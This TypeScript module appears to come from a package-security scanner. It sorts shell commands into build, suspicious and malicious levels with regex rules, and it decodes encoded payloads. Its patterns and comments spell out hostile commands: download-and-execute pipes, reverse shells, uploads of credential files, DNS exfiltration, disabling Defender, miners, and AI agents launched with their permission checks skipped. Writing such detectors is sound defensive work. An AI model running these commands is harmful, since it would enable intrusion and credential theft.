import type { Technique } from '../../model/index.js';
import { bytesToText, decodeBase64, decodeHex } from './decode.js';
import { escapeRegExp } from './regexp.js';
import { endpointIn, persistenceIn, secretIn } from './indicators.js';

/**
 * How alarming a shell command is. `build` commands are what builds do every day (compilers,
 * pkg-config, git describe); `malicious` ones download and run, open reverse shells, hide windows, run
 * encoded scripts or beacon over DNS.
 */
export type CommandLevel = 'build' | 'unknown' | 'suspicious' | 'malicious';

export interface CommandAssessment {
  level: CommandLevel;
  /** Malicious whoever runs it and whenever: no tool does this on a user's request. */
  unmistakable: boolean;
  reasons: string[];
  techniques: Technique[];
  /** Also downloads something from the network. */
  downloads: boolean;
  /** Runs something a download produced, or a decoded script. */
  executesPayload: boolean;
  /** A suspicious rule matched on literal words that stand on their own (Rule.literal). */
  literal: boolean;
}

const BUILD_PROGRAMS = /^(gcc|mcs|csc|vbc|nasm|yasm|windres|g\+\+|cc|c\+\+|clang(\+\+)?|cl(\.exe)?|lib(\.exe)?|link(\.exe)?|rc(\.exe)?|mt(\.exe)?|midl(\.exe)?|ml(64)?(\.exe)?|icc|nvcc|ld|ar|ranlib|strip|make|gmake|nmake|cmake|ninja|meson|scons|pkg-config|pkgconf|git|hg|svn|swig|cython|f2py|gfortran|xcrun|xcodebuild|lipo|install_name_tool|otool|patchelf|ldconfig|which|where|sw_vers|lsb_release|rustc|cargo|maturin|go|javac|mvn|ant|qmake|moc|uic|rcc|protoc|flatc|bison|yacc|flex|lex|autoreconf|autoconf|automake|libtool|configure|\.\/configure|msbuild|dotnet|node-gyp|node-pre-gyp|prebuild-install|prebuild|cmake-js|tsc|husky|patch-package|opencollective-postinstall|opencollective|is-ci|echo|exit|true|mkdir|cp|mv|rm|ln|touch|test|\[|cd|printf|npm|yarn|pnpm|bun|lerna|nx|turbo|rimraf|node|python|python3)$/i;

interface Rule {
  re: RegExp;
  level: CommandLevel;
  reason: string;
  technique?: Technique;
  downloads?: boolean;
  executes?: boolean;
  /** The matched words are the finding by themselves, whatever is interpolated around them (`npm publish ${dir}`). */
  literal?: boolean;
  /** Tested without the files the command writes (OUTPUT_ARGUMENT): a compiler's `-out:x.exe` starts nothing. */
  outputsAside?: boolean;
}

/** A file a command is told to write: `-out:build/x.exe`, `/Fe x.exe`, `-o x.exe`, `--output x.exe`. */
/** The MSVC toolchain's own programs (`lib.exe -def:x.def -out:x.lib`): running the compiler starts no payload. */
const MSVC_TOOL = /(^|[\s"'\\/])(?:cl|lib|link|rc|mt|midl|ml|ml64|csc|vbc|msbuild)\.exe\b/gi;
const OUTPUT_ARGUMENT = /(^|\s)(?:[-/](?:out|Fe|o)|--output)(?:[:=]|\s+)?['"]?[^\s'";&|]+/gi;

const RULES: Rule[] = [
  { re: /\b(curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(ba|z|da)?sh\b|\b(curl|wget)\b[^|;&]*\|\s*python/i, level: 'malicious', reason: 'pipes a download into a shell', downloads: true, executes: true, technique: 'external-payload' },
  // A download handed to an interpreter as its code: `node -e "$(curl -s URL)"`, `sh -c "$(wget -qO- URL)"`,
  // `eval "$(curl URL)"`, `bash <(curl URL)`, `source <(curl URL)`.
  { re: /(\b(node|nodejs|python[\d.]*|perl|ruby|php|deno|(ba|z|da)?sh)\s+(-\w+\s+)*(-e|-c|--eval|-p|-r|run)\s+["']?|\beval\s+["']?|(\b(ba|z|da)?sh|\bsource|(^|[;&|]\s*)\.)\s+)(\$\(|`|<\()\s*(curl|wget)\b/i, level: 'malicious', reason: 'runs a download as inline code', downloads: true, executes: true, technique: 'external-payload' },
  // Text decoded by the shell and run: `echo … | base64 -d | sh`, `node -e "$(echo … | base64 -d)"`, `xxd -r -p | bash`.
  { re: /\b(base64\s+(-d|--decode|-D)|xxd\s+-r|openssl\s+(enc\s+)?-?base64\s+-d)\b[^;&\n]*\|\s*(sudo\s+)?((ba|z|da)?sh|python[\d.]*|node|perl|ruby)\b|(\s(-e|-c|--eval)|\beval)\s+["']?(\$\(|`)\s*(echo|printf)\b[^;&\n]*\|\s*(base64|xxd)\b/i, level: 'malicious', reason: 'runs text it decodes (base64/hex) as a script', technique: 'obfuscation', executes: true },
  { re: /\b(iex|Invoke-Expression)\b|DownloadString\s*\(|\bIEX\s*\(/i, level: 'malicious', reason: 'PowerShell download-and-invoke', downloads: true, executes: true, technique: 'external-payload' },
  { re: /\b(powershell|pwsh)(\.exe)?\b.*\s-e(nc|ncodedcommand|c)?\s+[A-Za-z0-9+/=]{20,}/i, level: 'malicious', reason: 'runs an encoded PowerShell command', technique: 'obfuscation', executes: true },
  { re: /-w(indowstyle)?\s+h(idden)?\b|CREATE_NO_WINDOW|-NoP(rofile)?\s.*-W(indowStyle)?\s+Hidden/i, level: 'suspicious', reason: 'hides its window' },
  { re: /\/dev\/(tcp|udp)\/|\bnc(at)?\b[^|;&]*\s-[ec]\b|\bmkfifo\b.*\bnc\b|\bsocat\b.*exec|bash\s+-i\s*>&|sh\s+-i\s*>&|python\d?\s+-c\s+['"]?import\s+socket\b.*(dup2|pty\.spawn|\/bin\/(ba|z)?sh\b|cmd\.exe)/i, level: 'malicious', reason: 'opens a reverse shell' },
  { re: /\b(Invoke-WebRequest|iwr|Start-BitsTransfer|DownloadFile|Net\.WebClient|bitsadmin\s+\/transfer|certutil(\.exe)?\s+-urlcache)\b/i, level: 'suspicious', reason: 'downloads with PowerShell/Windows tools', downloads: true, technique: 'external-payload' },
  { re: /\b(curl|wget)\b\s+[^|;&]*((https?|ftp):\/\/|(?<=\s)\d{1,3}(\.\d{1,3}){3}(:\d+)?(\/|\s|$))/i, level: 'suspicious', reason: 'downloads a file', downloads: true, technique: 'external-payload' },
  // A local file sent with the request: `curl -F a=@/etc/passwd host`, `curl -T f`, `curl -d @f`, `wget --post-file=f`.
  { re: /\bcurl\b[^|;&]*\s(-F\s*['"]?[\w.-]*=[<@]|-T\s|--upload-file\b|(--data(-binary|-raw|-urlencode)?|-d)[\s=]*['"]?@)|\bwget\b[^|;&]*\s--(post|body)-file\b/i, level: 'suspicious', reason: 'uploads a local file' },
  // The URL may be interpolated (`curl -o {path} {url}`): saving to a file is still a download.
  { re: /\b(curl|wget)\b[^|;&]*?(\s-[oO]\b|\s--output\b|\s-qO\b)/, level: 'suspicious', reason: 'downloads a file to disk', downloads: true, technique: 'external-payload' },
  { re: /\b(chmod\s+(\+x|[0-7]*7[0-7]*)|Start-Process|start\s+\/b|\bstart\s+("?\w|\{…\})|mshta|rundll32|regsvr32|wscript|cscript|\.exe\b|\.vbs\b|\.bat\b|\.ps1\b|\.scr\b)/i, level: 'suspicious', reason: 'starts an executable or script' , executes: true, outputsAside: true },
  { re: /\b(nslookup|dig|host)\s+[^|;&]*(\$\(|`|%\w+%|\$\w+)/i, level: 'malicious', reason: 'sends data in a DNS lookup (DNS exfiltration)' },
  // The environment or the user's identity put into a request: `curl -d "$(env | base64)" host`,
  // `curl host/$(whoami)`, `env | curl -d @- host`. (Downloads name their file with `$(uname -m)` or a version
  // read with `$(cat VERSION)`: those stay mere downloads.)
  { re: /\b(curl|wget)\b[^;\n]*(\$\(|`)\s*(env|printenv|whoami|hostname)\b|\b(env|printenv)\s*(\|[^;\n]*)?\|\s*(curl|wget|nc|ncat)\b/i, level: 'malicious', reason: 'sends the environment or the user\'s identity with a request (exfiltration)' },
  { re: /\b(nslookup|dig)\b/i, level: 'suspicious', reason: 'makes a DNS lookup' },
  { re: /\b(whoami|ipconfig|ifconfig|systeminfo|net\s+user|cat\s+\/etc\/passwd|printenv|env\s*\||set\s*\|)\b|^\s*(id|hostname|uname\s+-a)\s*$/i, level: 'suspicious', reason: 'collects host information' },
  { re: /\bpowershell(\.exe)?\b|\bpwsh\b/i, level: 'suspicious', reason: 'runs PowerShell' },
  { re: /\bpythonw(\.exe)?\b|\.pyw\b/i, level: 'suspicious', reason: 'runs Python without a window' },
  { re: /\breg(\.exe)?\s+add\b|\bschtasks\b|\bcrontab\b|\bsystemctl\s+enable\b|\blaunchctl\s+load\b/i, level: 'suspicious', reason: 'installs persistence' },
  // Blinding the antivirus is preparation for what comes next; no library needs it.
  { re: /\b(Add|Set)-MpPreference\b[^|;&]*-(Exclusion\w*|Disable\w+)\b|\bnetsh\s+advfirewall\s+set\s+\w+\s+state\s+off\b/i, level: 'malicious', reason: 'weakens Microsoft Defender or the firewall (defender evasion)' },
  // Installing or importing a library never needs to turn the machine off.
  { re: /^\s*(sudo\s+)?(shutdown|poweroff|halt|reboot)(\.exe)?(\s|$)|\bStop-Computer\b|\bRestart-Computer\b/i, level: 'suspicious', reason: 'shuts down or restarts the machine' },
  { re: /\b(history\s+-c|wevtutil\s+cl|Clear-EventLog|shred\s+-u|del\s+\/[fq])\b/i, level: 'suspicious', reason: 'deletes traces', technique: 'trace-deletion' },
  { re: /\b(xmrig|minerd|cpuminer|stratum\+tcp)\b/i, level: 'malicious', reason: 'runs a cryptocurrency miner' },
  // A miner under another file name still takes a mining pool and a wallet address (Monero: 95 base58 characters).
  { re: /(?:^|\s)(?:-o|--url[= ]?)\s*(?:stratum\+\w+:\/\/)?[\w.-]*pool[\w.-]*:\d{2,5}\b|\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/i, level: 'malicious', reason: 'runs a cryptocurrency miner (mining pool and wallet arguments)' },
  { re: /\bnpm\s+(publish|adduser|token\s+create)\b|registry\.npmjs\.org\/-\/(npm\/v1\/tokens|user)/i, level: 'suspicious', reason: 'publishes packages or mints registry tokens (worm behaviour)', literal: true },
  // Secret scanners run over the machine or its repositories by a package: harvesting, as the Shai-Hulud worm did.
  { re: /\btrufflehog\b|\bgitleaks\s+(detect|dir|git)\b|\bnoseyparker\s+scan\b/i, level: 'suspicious', reason: 'scans the machine for secrets (credential harvesting)', literal: true },
  // An AI coding agent told to act without asking (s1ngularity, 2025: a postinstall drove it to inventory
  // wallets and keys). Orchestration tools do this when a user runs them, so it weighs only at install and import.
  { re: /(?:^|\s)--(?:dangerously-skip-permissions|dangerously-bypass-approvals-and-sandbox|trust-all-tools|allow-all-tools)\b|\b(?:gemini|qwen|codex)\b[^;&|\n]*\s--yolo\b/i, level: 'suspicious', reason: 'runs an AI coding agent with its permission checks turned off', literal: true },
  { re: /\bgh\s+auth\s+token\b|\bgit\s+config\s+--get\s+\S*(token|password)|\bgit\s+credential\s+fill\b/i, level: 'suspicious', reason: 'reads stored Git/GitHub credentials' },
  { re: /\bpip(\d+(\.\d+)?)?(\.exe)?\s+install\b|-m\s+pip\s+install\b|\bnpm\s+(i|install)\s+[^-\s]/i, level: 'suspicious', reason: 'installs further packages' },
  // Code from outside the registry, run by the installer (its install scripts, setup.py) or by npx: nothing
  // reviewed or pinned it. `npm i -g http://host/x.tgz`, `npx github:user/tool`, `pip install git+https://…`.
  { re: /\b(?:(?:npm|pnpm|yarn|bun)\s+(?:i|install|add)|npx|bunx|(?:pnpm|yarn)\s+dlx|pip\d*(?:\.\d+)?(?:\.exe)?\s+install)\b[^;&|\n]*?\s['"]?(?:https?:\/\/|git\+|git:\/\/|(?:github|gitlab|bitbucket):)/i, level: 'suspicious', reason: 'installs a package from a URL or Git source outside the registry', downloads: true, technique: 'external-payload' },
];

const UNMISTAKABLE = /reverse shell|defender evasion|encoded PowerShell|DNS exfiltration|miner|contacts a|download-and-invoke|downloads and starts (an executable|the download)/;

const ENCODED_POWERSHELL = /\b(?:powershell|pwsh)(?:\.exe)?\b.*?\s-e(?:nc|ncodedcommand|c)?\s+([A-Za-z0-9+/]{20,}={0,2})/i;

/**
 * The script of `powershell -EncodedCommand …`: base64 of UTF-16LE text. Undefined when the argument does
 * not decode to such text.
 */
export function encodedPowerShell(command: string): string | undefined {
  const m = ENCODED_POWERSHELL.exec(command);
  const bytes = m ? decodeBase64(m[1] as string) : undefined;
  if (!bytes || bytes.length < 4 || bytes[1] !== 0 || bytes[3] !== 0) return undefined;
  return bytesToText(bytes);
}

const SHELL_ENCODED = /\b(?:echo|printf)\s+(?:-[neE]+\s+)?(['"]?)([A-Za-z0-9+/]{16,}={0,2}|[0-9a-fA-F]{16,})\1\s*\|\s*(base64\s+(?:-d|--decode|-D)|xxd\s+-r)/;

/** The text `echo <base64> | base64 -d` or `echo <hex> | xxd -r -p` decodes to, when it reads as text. */
export function shellDecoded(command: string): string | undefined {
  const m = SHELL_ENCODED.exec(command);
  if (!m) return undefined;
  const data = m[2] as string;
  const bytes = (m[3] as string).startsWith('xxd') ? decodeHex(data) : decodeBase64(data);
  const text = bytes ? bytesToText(bytes) : undefined;
  return text !== undefined && text.trim().length >= 4 ? text : undefined;
}

/** The file a download is saved to (`curl -o F`, `wget -O F`, `--output F`), not standard output (`-O -`). */
const SAVED_TO = /\b(?:curl|wget)\b[^|;&\n]*?(?:\s-[a-zA-Z]*[oO]|\s--output(?:-document)?)(?:\s+|=)(['"]?)([^\s'";&|]+)\1/g;
const LAUNCHERS = String.raw`(?:(?:nohup|setsid|sudo|exec|sh|bash|zsh|dash|ksh|python[\d.]*|node|perl|ruby|source|\.)\s+)*`;

/** A later command of the line runs the saved file (`wget -O /tmp/.s URL && sh /tmp/.s`, `… ; ./x`). */
function runsSavedFile(text: string): boolean {
  for (const m of text.matchAll(SAVED_TO)) {
    const path = m[2] as string;
    if (path === '-' || /^https?:/i.test(path)) continue;
    const rest = text.slice((m.index ?? 0) + m[0].length);
    const name = escapeRegExp(path);
    const local = path.includes('/') ? name : `(?:\\./)?${name}`;
    if (new RegExp(`(?:[;&|\\n]|&&)\\s*${LAUNCHERS}['"]?${local}(?=['"\\s;&|]|$)`).test(rest)) return true;
  }
  return false;
}

export function assessCommand(command: string, depth = 0): CommandAssessment {
  const reasons: string[] = [];
  const techniques = new Set<Technique>();
  let level: CommandLevel = 'unknown';
  let downloads = false;
  let executesPayload = false;
  let literal = false;
  const raise = (l: CommandLevel): void => {
    const order: CommandLevel[] = ['build', 'unknown', 'suspicious', 'malicious'];
    if (order.indexOf(l) > order.indexOf(level)) level = l;
  };
  const text = command.slice(0, 20_000);
  let outputsAside: string | undefined;
  for (const rule of RULES) {
    if (rule.outputsAside) outputsAside ??= text.replace(OUTPUT_ARGUMENT, '$1').replace(MSVC_TOOL, '$1');
    if (!rule.re.test(rule.outputsAside ? (outputsAside as string) : text)) continue;
    raise(rule.level);
    reasons.push(rule.reason);
    if (rule.technique) techniques.add(rule.technique);
    downloads ||= rule.downloads ?? false;
    executesPayload ||= rule.executes ?? false;
    literal ||= rule.literal ?? false;
  }
  if (downloads && !executesPayload && runsSavedFile(text)) {
    executesPayload = true;
    reasons.push('runs the file it downloaded');
  }
  // What the encoded script does counts as what the command does, and its text is shown.
  const script = depth < 2 ? (encodedPowerShell(text) ?? shellDecoded(text)) : undefined;
  if (script !== undefined) {
    const inner = assessCommand(script, depth + 1);
    raise(inner.level);
    const shown = script.length > 200 ? `${script.slice(0, 200)}…` : script;
    // Whether the whole downloads and starts something is said once, below.
    reasons.push(`the encoded command decodes to \`${shown.replace(/\s+/g, ' ').trim()}\``, ...inner.reasons.filter((r) => !r.startsWith('downloads and starts')).map((r) => `(decoded) ${r}`));
    for (const t of inner.techniques) techniques.add(t);
    downloads ||= inner.downloads;
    executesPayload ||= inner.executesPayload;
    literal ||= inner.literal;
  }
  const endpoint = endpointIn(text);
  if (endpoint) {
    raise('malicious');
    reasons.push(`contacts a ${endpoint.label} (${endpoint.match})`);
  }
  const secret = secretIn(text);
  if (secret) {
    raise('suspicious');
    reasons.push(`touches ${secret.label}`);
    // `curl -T ~/.ssh/id_rsa host`, `curl -d "$(cat ~/.aws/credentials)" host`: the secret leaves the machine.
    if (reasons.includes('uploads a local file') || /\b(curl|wget)\b[^;\n]*(\$\(|`)\s*(cat|base64|type)\b/i.test(text)) {
      raise('malicious');
      reasons.push(`sends ${secret.label} over the network`);
    }
  }
  const persistence = persistenceIn(text);
  if (persistence) {
    raise('malicious');
    reasons.push(`writes ${persistence.label}`);
  }
  if (downloads && executesPayload) {
    raise('malicious');
    if (/\.(exe|scr|bat|cmd|ps1|vbs|msi|hta)\b/i.test(script === undefined ? text : `${text}\n${script}`)) reasons.push('downloads and starts an executable');
    else reasons.push('downloads and starts the download in one command');
  }
  if (level === 'unknown' && isBuildCommand(text)) level = 'build';
  const unmistakable = (level as CommandLevel) === 'malicious' && reasons.some((r) => UNMISTAKABLE.test(r));
  return { level, unmistakable, reasons, techniques: [...techniques], downloads, executesPayload, literal };
}

/** `sh -c '…'`, `/bin/bash -c …`: a shell handed one command string, which is what runs. */
const SHELL_WRAPPER = /^\s*(?:\S*\/)?(?:ba|da|z)?sh\s+-c\s+/;

/** Every program in the command is a build tool (a compiler, pkg-config, git, node-gyp, …). */
export function isBuildCommand(command: string): boolean {
  const inner = SHELL_WRAPPER.test(command) ? command.replace(SHELL_WRAPPER, '').replace(/^(['"])([^]*)\1\s*$/, '$2') : command;
  const programs = inner
    .split(/&&|\|\||[;|&\n]/)
    .map((seg) => seg.trim().split(/\s+/).find((w) => !/^[A-Za-z_]\w*=/.test(w)) ?? '')
    .filter(Boolean)
    .map((p) => p.replace(/^["']|["']$/g, '').replace(/^.*[\\/]/, ''));
  return programs.length > 0 && programs.every((p) => BUILD_PROGRAMS.test(p));
}
